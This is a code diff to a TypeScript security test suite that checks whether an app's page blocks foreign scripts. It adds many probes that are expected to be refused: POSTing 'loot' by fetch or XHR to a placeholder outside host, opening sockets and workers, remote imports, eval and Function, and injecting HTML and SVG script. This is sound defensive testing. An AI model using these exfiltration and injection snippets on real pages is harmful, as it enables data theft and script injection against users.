@@ -1,6 +1,10 @@
 /** What foreign script within our own page would try: our page is served shut, and its bridge is narrow. */
-import type { Area } from '../attack.ts'
+import type { Area, Attack } from '../attack.ts'
 import { loads, refusedBy } from './scripts.ts'
+
+/** In a turn of its own: what a debugger runs at once is let run texts. */
+const later = (code: string) =>
+  `new Promise((r, e) => setTimeout(() => { try { r(${code}) } catch (error) { e(error) } }))`
 
 export const ownPage: Area = {
   title: 'Foreign script in our own page',
@@ -151,6 +155,103 @@ export const ownPage: Area = {
       answers: 'undefined',
       guard: ['browser']
     },
+    ...(
+      [
+        ['load letters from elsewhere', 'new FontFace("a", "url(http://{elsewhere}/)").load()'],
+        [
+          'ask by the old interface',
+          'new Promise((r, e) => { const x = new XMLHttpRequest(); x.onload = r; x.onerror = e; x.open("POST", "http://{elsewhere}/"); x.send("loot") })'
+        ],
+        [
+          'listen to events from elsewhere',
+          'new Promise((r, e) => { const s = new EventSource("http://{elsewhere}/"); s.onopen = r; s.onerror = e })'
+        ],
+        [
+          'send a last word that outlives it',
+          'fetch("http://{elsewhere}/", { method: "POST", body: "loot", keepalive: true, mode: "no-cors" })'
+        ],
+        [
+          'speak over an encrypted socket',
+          'new Promise((r, e) => { const s = new WebSocket("wss://{elsewhere}/"); s.onopen = r; s.onerror = e })'
+        ],
+        [
+          'play a sound from elsewhere',
+          'new Promise((r, e) => { const a = new Audio("http://{elsewhere}/"); a.oncanplay = r; a.onerror = e; a.load() })'
+        ],
+        [
+          'play a film from elsewhere',
+          'new Promise((r, e) => { const v = document.createElement("video"); v.oncanplay = r; v.onerror = e; v.src = "http://{elsewhere}/" })'
+        ],
+        ['take a part of a script from elsewhere', 'import("http://{elsewhere}/")'],
+        ['run a module of its own making', 'import(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" })))'],
+        ['run data as a module', 'import("data:text/javascript,0")'],
+        ['take a style as a module from elsewhere', 'import("http://{elsewhere}/", { with: { type: "css" } })'],
+        [
+          'run a worker of elsewhere',
+          'new Promise((r, e) => { const w = new Worker("http://{elsewhere}/"); w.onmessage = r; w.onerror = e })'
+        ],
+        [
+          'run a shared worker of its own making',
+          'new Promise((r, e) => { const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1)"]))); w.port.onmessage = r; w.onerror = e })'
+        ],
+        ['run a text by another way', later('eval("1")')],
+        ['run a text as a function', later('new Function("return 1")()')],
+        ['run a text as a function that waits', later('(async () => {}).constructor("return 1")()')],
+        ['make a fragment of a text', '(async () => document.createRange().createContextualFragment("<b>x</b>"))()'],
+        ['make a document of a text', '(async () => new DOMParser().parseFromString("<b>x</b>", "text/html"))()'],
+        [
+          'make markup of a text in a shadow',
+          '(async () => { document.createElement("div").attachShadow({ mode: "open" }).innerHTML = "<b>x</b>" })()'
+        ],
+        [
+          'make markup of a text past what cleans it',
+          '(async () => document.createElement("div").setHTMLUnsafe("<b>x</b>"))()'
+        ],
+        [
+          'make markup of a text in an element’s place',
+          '(async () => { const d = document.createElement("div"); document.createElement("p").append(d); d.outerHTML = "<b>x</b>" })()'
+        ],
+        ['put a text in place of the page', '(async () => { document.documentElement.innerHTML = "<b>x</b>" })()'],
+        [
+          'run a text in a drawing',
+          '(async () => { const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.textContent = "window.drawn = true"; document.body.append(s); if (!window.drawn) throw 0 })()'
+        ],
+        [
+          'run a text from an attribute of a drawing',
+          '(async () => document.createElementNS("http://www.w3.org/2000/svg", "svg").setAttribute("onload", "window.drawn = true"))()'
+        ],
+        [
+          'delete from our scheme',
+          'fetch("/index.html", { method: "DELETE" }).then(({ ok }) => ok || Promise.reject())'
+        ],
+        [
+          'replace in our scheme',
+          'fetch("/index.html", { method: "PUT", body: "x" }).then(({ ok }) => ok || Promise.reject())'
+        ]
+      ] as const
+    ).map(([name, tried]): Attack => ({ name, script: refusedBy(tried), answers: 'refused' })),
+    {
+      name: 'paint with styles of its own',
+      script:
+        'const s = document.createElement("style"); s.textContent = "h1 { color: rgb(9, 9, 9) }"; document.head.append(s); return getComputedStyle(document.querySelector("h1")).color',
+      answers: 'rgb(1, 2, 3)'
+    },
+    {
+      name: 'paint with an attribute of its own',
+      script:
+        'const h = document.querySelector("h1"); h.setAttribute("style", "color: rgb(9, 9, 9)"); return getComputedStyle(h).color',
+      answers: 'rgb(1, 2, 3)'
+    },
+    {
+      name: 'say by a background what it knows',
+      script:
+        'document.body.style.backgroundImage = "url(http://{elsewhere}/a)"; await new Promise((r) => setTimeout(r, 200)); document.body.style.backgroundImage = ""'
+    },
+    {
+      name: 'show a page of elsewhere in a set of frames',
+      script:
+        'const f = document.createElement("frame"); f.src = "http://{elsewhere}/"; const s = document.createElement("frameset"); s.append(f); document.documentElement.append(s); await new Promise((r) => setTimeout(r, 200)); s.remove()'
+    },
     {
       name: 'call another computer',
       script:
@@ -261,9 +362,9 @@ export const ownPage: Area = {
       guard: ['browser']
     },
     {
-      name: 'ask with a text of a hundred megabytes',
+      name: 'ask with a text of twenty megabytes',
       guard: ['bridge'],
-      script: 'return countersign.drafts.get({ id: "a".repeat(1e8) }).then((r) => r.error?.code, () => "bad-input")',
+      script: 'return countersign.drafts.get({ id: "a".repeat(2e7) }).then((r) => r.error?.code, () => "bad-input")',
       answers: 'bad-input'
     },
     {
